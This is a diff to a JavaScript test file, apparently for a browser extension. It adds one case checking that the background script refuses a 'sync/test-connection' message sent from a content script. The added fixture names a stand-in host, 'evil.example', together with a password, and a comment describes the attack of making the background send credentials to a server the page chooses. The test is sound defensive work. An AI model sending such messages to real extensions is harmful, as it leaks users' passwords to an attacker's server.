@@ -42,6 +42,8 @@ describe('the background answers each message only from who may send it', () => 
     ['timer/start', {}],
     ['lecture/open-at', { key, time: 1 }],
     ['library/due-count', {}],
+    // It would make the background send a password to a server the page names.
+    ['sync/test-connection', { url: 'https://evil.example/', user: 'a', password: 'b', folder: 'L/', passphrase: '' }],
   ])("refuses %s from a content script, even its lecture's frame, and touches nothing", async (type, payload) => {
     await send('lecture/seen', sighting, content());
     await db.notes.add({ ...note, id: crypto.randomUUID(), kind: 'note', tags: [], createdAt: 1, updatedAt: 1 });
